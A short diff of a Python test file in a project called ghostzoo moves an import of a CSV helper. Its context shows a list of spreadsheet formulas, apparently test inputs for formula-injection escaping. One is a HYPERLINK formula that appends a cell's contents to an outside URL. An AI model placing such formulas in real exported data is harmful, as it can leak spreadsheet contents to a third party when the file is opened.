@@ -8,9 +8,9 @@ from pathlib import Path
 
 import pytest
 
+from ghostzoo._utils.spreadsheet import csv_row
 from ghostzoo.cli.results import CsvWriter
 from ghostzoo.predictions import Prediction
-from ghostzoo.spreadsheet import csv_row
 
 FORMULAS = [
     '=HYPERLINK("http://example.com/"&A1, "see")',
